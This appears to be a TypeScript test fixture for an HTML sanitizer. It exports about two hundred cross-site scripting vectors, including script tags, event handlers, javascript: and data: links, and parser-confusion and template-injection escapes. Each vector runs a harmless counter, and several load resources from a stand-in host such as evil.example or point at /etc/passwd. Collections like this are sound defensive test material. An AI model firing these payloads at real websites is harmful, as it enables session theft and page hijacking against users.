/** What every vector tries to run: it leaves a trace in the page, whichever frame it runs in. */
const run = 'top.__ran=(top.__ran||0)+1'

const tags = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script >${run}</script >`, `<script/x>${run}</script>`, `</script><script>${run}</script>`, `<<script>${run}//<</script>`, `<script>${run}<!--`,
  `<script\n>${run}</script>`, `<script\t>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, '<script src=https://evil.example/x.js></script>', '<script src=//evil.example/x.js></script>',
  `<script src="data:text/javascript,${run}"></script>`, `<script type=module>${run}</script>`, `<svg><script>${run}</script></svg>`, `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<math><script>${run}</script></math>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`, `<style><script>${run}</script></style>`,
]

const handlers = [
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<img src=x onerror='${run}'>`, `<IMG SRC=x ONERROR=${run}>`, `<img/src=x/onerror=${run}>`, `<img src=x onerror\n=${run}>`, `<img src=x onerror=${run}//`,
  `<img src="x" onerror="${run}" "`, `<img """><img src=x onerror=${run}>">`, `<img src=x:x onerror=${run}>`, '<img src=https://evil.example/pixel.gif>', `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributename=x>`, `<svg><a><rect width=99 height=99 /><animate attributeName=href to=javascript:${run}></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"></use></svg>`, `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`, `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<body onload=${run}>`, `<body onpageshow=${run}>`, `<body onhashchange=${run}>`, `<html onmouseover=${run}>`, `<frameset onload=${run}>`, `<iframe onload=${run}>`, `<iframe src=javascript:${run}>`,
  `<iframe srcdoc="<script>${run}</script>">`, '<iframe src=https://evil.example></iframe>', `<embed src=javascript:${run}>`, `<embed src=data:text/html,<script>${run}</script>>`, `<object data=javascript:${run}>`,
  `<object data="data:text/html,<script>${run}</script>">`, `<video src=x onerror=${run}>`, `<video><source onerror=${run}>`, `<audio src=x onerror=${run}>`, `<video onloadstart=${run} src=x>`,
  `<input autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<button autofocus onfocus=${run}>`, `<a autofocus tabindex=1 onfocus=${run}>x</a>`, `<details open ontoggle=${run}>`,
  `<marquee onstart=${run}>`, `<marquee loop=1 width=0 onfinish=${run}>`, `<style onload=${run}></style>`, `<link rel=stylesheet href=x onerror=${run}>`, '<link rel=stylesheet href=https://evil.example/x.css>',
  `<x onanimationstart=${run} style=animation-name:x>`, `<style>@keyframes x{}</style><x style="animation-name:x" onanimationstart="${run}">`, `<div contenteditable autofocus onfocus=${run}>`, `<x contenteditable onblur=${run} autofocus>`,
  `<keygen autofocus onfocus=${run}>`, `<dialog open onclose=${run}>`, `<xss onscrollend=${run} style="overflow:scroll">`, `<isindex type=image src=x onerror=${run}>`, `<p oncontentvisibilityautostatechange=${run} style=content-visibility:auto>`,
]

const links = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, ` javascript:${run}`, `javascript://https://x.example/%0a${run}`, `https://x.example/" onmouseover="${run}`,
  `https://x.example/'onclick='${run}`, `https://x.example/><img src=x onerror=${run}>`, `http://x.example/"><script>${run}</script>`, `vbscript:${run}`, `data:text/html,<script>${run}</script>`, 'data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==',
  `<a href=javascript:${run}>x</a>`, `<a href="&#106;avascript:${run}">x</a>`, `<a href="java&Tab;script:${run}">x</a>`, `<a href="javascript&colon;${run}">x</a>`, `[x](javascript:${run})`, `![x](javascript:${run})`, `![x"onerror="${run}](x)`,
  `<form action=javascript:${run}><input type=submit autofocus>`, `<form><button formaction=javascript:${run}>x`, `<base href=javascript:${run}//>`, '<base href=https://evil.example/>', `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  '<meta http-equiv=refresh content="0;url=https://evil.example/">', `<area href=javascript:${run}>`, `<math href=javascript:${run}>x</math>`, `blob:${run}`, 'file:///etc/passwd', `view-source:javascript:${run}`,
]

const escapes = [
  `"><script>${run}</script>`, `'><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`,
  `" autofocus onfocus=${run} x="`, `' autofocus onfocus=${run} x='`, `\` autofocus onfocus=${run} x=\``, `';${run};//`, `";${run};//`, `\\";${run};//`, `\${${run}}`, `{{constructor.constructor('${run}')()}}`, `{{$on.constructor('${run}')()}}`,
  `#{${run}}`, `<%= ${run} %>`, `\u2028${run}`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `\\x3cscript\\x3e${run}`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\ufeff<script>${run}</script>`, `＜script＞${run}＜/script＞`, `<\u200bscript>${run}</script>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`, '__proto__', `<img name=getElementById><form id=body><input name=children>`,
]

/** Each once. Written for this suite after the families of vectors that the OWASP and HTML5 security cheat sheets describe. */
export const xssVectors: readonly string[] = [...tags, ...handlers, ...links, ...escapes]
